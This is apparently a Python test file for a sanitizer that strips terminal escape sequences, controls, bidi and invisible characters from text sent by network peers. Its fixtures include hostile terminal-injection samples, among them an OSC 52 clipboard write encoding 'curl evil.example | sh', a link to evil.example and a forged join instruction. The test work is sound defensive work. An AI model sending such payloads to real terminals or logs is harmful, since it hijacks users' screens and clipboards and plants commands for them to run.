"""Peer text is data (issue 47, finding 5): `net.trust.peer_text.shown`, the one function
every string from a peer passes before a terminal, a log line or the window shows it.

Fed every C0 and C1 control, DEL, every escape family (CSI, OSC with BEL and ST, DCS,
SOS, PM, APC, the other ESC sequences; 7-bit and 8-bit introducers; unterminated ones),
bidi overrides and isolates, zero-width and tag characters, every Unicode line and
paragraph break, surrogates, private-use and unassigned code points: what comes out is one
line of printable text without any of them, and ordinary text passes unchanged."""

from __future__ import annotations

import io
import logging
import sys
import unicodedata

import pytest
from hypothesis import given, settings, strategies as st

from net.trust.peer_text import ELLIPSIS, OneLineFormatter, shown

C0 = [chr(c) for c in range(0x00, 0x20)]
C1 = [chr(c) for c in range(0x80, 0xA0)]
DEL = "\x7f"
INTRODUCERS = "\x1b\x90\x98\x9b\x9d\x9e\x9f"
BIDI = ["\u200e", "\u200f", "\u061c", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e",
        "\u2066", "\u2067", "\u2068", "\u2069"]
INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\U000e0041",
             "\U000e007f", "\ud800", "\udfff", "\ue000", "\U000f0000", "\U0010fffd",
             "\U000e0fff"]
BREAKS = ["\n", "\r", "\r\n", "\v", "\f", "\x85", "\u2028", "\u2029", "\t", "\x1c", "\x1e"]

# what a hostile peer sent in issue 47: a clear-screen, a window title, a clipboard write
# and a forged line of the host's own
ATTACK = ("\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
          "\nFriends anywhere join with: ./shogun join 66-evil-code\n")

SEQUENCES = {
    "CSI clear screen": "\x1b[2J",
    "CSI cursor home": "\x1b[H",
    "CSI colour": "\x1b[1;31;48;5;196m",
    "CSI private mode": "\x1b[?1049h",
    "CSI with intermediate": "\x1b[0 q",
    "CSI 8-bit": "\x9b2J",
    "CSI unterminated": "\x1b[12;",
    "OSC title, BEL": "\x1b]0;pwned\x07",
    "OSC title, ST": "\x1b]2;pwned\x1b\\",
    "OSC 52 clipboard": "\x1b]52;c;ZWNobyBldmls\x07",
    "OSC 8 hyperlink": "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "OSC 8-bit, ST 8-bit": "\x9d0;pwned\x9c",
    "OSC unterminated": "\x1b]0;the rest of the text is a title",
    "DCS": "\x1bP1$r0m\x1b\\",
    "DCS 8-bit": "\x90q#0;2;0;0;0\x9c",
    "DCS unterminated": "\x1bPq#0;2;0;0;0",
    "SOS": "\x1bXsecret\x1b\\",
    "SOS 8-bit": "\x98secret\x9c",
    "PM": "\x1b^privacy\x1b\\",
    "PM 8-bit": "\x9eprivacy\x9c",
    "APC": "\x1b_kitty graphics\x1b\\",
    "APC 8-bit": "\x9fkitty graphics\x9c",
    "ESC reset": "\x1bc",
    "ESC charset": "\x1b(0",
    "ESC save cursor": "\x1b7",
    "ESC keypad": "\x1b=",
    "ESC index": "\x1bD",
    "ESC alone at the end": "\x1b",
    "the issue's attack": ATTACK,
}


def _one_safe_line(out: str) -> None:
    assert out.isprintable() or all(ch == " " or ch.isprintable() for ch in out), repr(out)
    for ch in out:
        assert ch == " " or ch.isprintable(), repr(out)
        assert unicodedata.category(ch) not in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"), \
            repr(out)
    assert "\x1b" not in out and "\n" not in out and "\r" not in out


@pytest.mark.parametrize("ch", C0 + C1 + [DEL], ids=lambda ch: f"U+{ord(ch):04X}")
def test_every_c0_and_c1_control_and_del_is_gone(ch):
    out = shown(f"Ann{ch}Bo")
    _one_safe_line(out)
    if ch in INTRODUCERS:       # it begins a sequence, which takes what follows with it
        assert out.startswith("Ann") and out in ("Ann", "Anno", "AnnBo"), repr(out)
    else:
        assert out in ("AnnBo", "Ann Bo"), repr(out)


@pytest.mark.parametrize("name, sequence", list(SEQUENCES.items()), ids=list(SEQUENCES))
def test_every_escape_sequence_goes_whole(name, sequence):
    out = shown("before " + sequence + " after")
    _one_safe_line(out)
    assert out.startswith("before ")
    # nothing of the sequence's own bytes is left as text (its parameters, its payload)
    for leftover in ("2J", "pwned", "52;", "Y3Vy", "ZWNo", "evil.example", "#0;2", "secret",
                     "privacy", "kitty", "1049", "31;48", "$r0m"):
        assert leftover not in out or leftover in "before after", (name, out)


def test_a_terminated_sequence_keeps_the_text_after_it():
    assert shown("a\x1b[31mred\x1b[0m b") == "ared b"
    assert shown("x\x1b]0;title\x07y") == "xy"
    assert shown("x\x1b]0;title\x1b[2Jy") == "xy"       # an OSC ended by the next ESC


def test_the_issues_attack_is_one_harmless_line():
    out = shown("the friend says: " + ATTACK)
    _one_safe_line(out)
    assert out == "the friend says:  Friends anywhere join with: ./shogun join 66-evil-code "
    assert not out.startswith("Friends")      # never a line of its own


@pytest.mark.parametrize("ch", BIDI + INVISIBLE, ids=lambda ch: f"U+{ord(ch):04X}")
def test_bidi_overrides_and_invisible_characters_are_gone(ch):
    out = shown(f"evil{ch}txt.exe")
    _one_safe_line(out)
    assert out == "eviltxt.exe"


@pytest.mark.parametrize("brk", BREAKS, ids=lambda b: "+".join(f"U+{ord(c):04X}" for c in b))
def test_line_breaks_become_a_space(brk):
    out = shown(f"one{brk}two")
    _one_safe_line(out)
    assert out == "one" + " " * len(brk) + "two"


@pytest.mark.parametrize("space", ["\u00a0", "\u2003", "\u202f", "\u3000", "\u1680"])
def test_wide_and_narrow_spaces_become_plain_spaces(space):
    assert shown(f"a{space}b") == "a b"


@pytest.mark.parametrize("text", ["Ann", "Kenji (Orange)", "Zoë", "Ștefan", "Mei 美", "دانا",
                                  "עִברִית", "👩‍👩‍👧" if False else "🙂 ok",
                                  "192.168.1.7:7531", "[2001:db8::7]:7531", "",
                                  "join refused: the join code is wrong"])
def test_ordinary_text_passes_unchanged(text):
    assert shown(text) == text


def test_every_code_point_below_0x3000_and_the_special_planes():
    """Every code point of the BMP's first 12,288 and the tag and private-use planes'
    edges: nothing that is not printable survives, each alone and between letters."""
    points = list(range(0x3000)) + list(range(0xD800, 0xE010)) + list(range(0xFFF0, 0x10000)) \
        + list(range(0xE0000, 0xE0080)) + [0xF0000, 0x10FFFF]
    for c in points:
        out = shown(f"a{chr(c)}b")
        _one_safe_line(out)


def test_a_limit_cuts_with_an_ellipsis_and_non_strings_never_raise():
    assert shown("abcdef", limit=4) == "abc" + ELLIPSIS
    assert shown("abc", limit=4) == "abc"
    assert shown("a\nb", limit=10) == "a b"
    assert shown(12) == "12"
    assert shown(None) == "None"
    assert shown(b"\x1b[2J") == "b'\\x1b[2J'"      # a bytes' repr: its escapes are text

    class Bad:
        def __str__(self):
            raise RuntimeError("no")
    assert shown(Bad()) == ""


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(), max_size=60))
def test_any_text_comes_out_as_one_safe_line(text):
    out = shown(text)
    _one_safe_line(out)
    assert shown(out) == out          # showing twice changes nothing


def test_a_log_line_carrying_peer_text_stays_one_line():
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(OneLineFormatter("%(levelname)s %(message)s"))
    log = logging.getLogger("tests.peer_text")
    log.addHandler(handler)
    log.propagate = False
    try:
        log.warning("a friend's answer: %s", ATTACK)
        try:
            raise ValueError("boom")
        except ValueError:
            log.exception("with a traceback %s", "\x1b]0;t\x07x")
    finally:
        log.removeHandler(handler)
    out = stream.getvalue()
    first, *rest = out.splitlines()
    assert first == "WARNING a friend's answer:  Friends anywhere join with: ./shogun join " \
                    "66-evil-code "
    assert rest[0] == "ERROR with a traceback x" and rest[1].startswith("Traceback")
    assert "\x1b" not in out and "\x07" not in out
    assert sys.maxunicode == 0x10FFFF
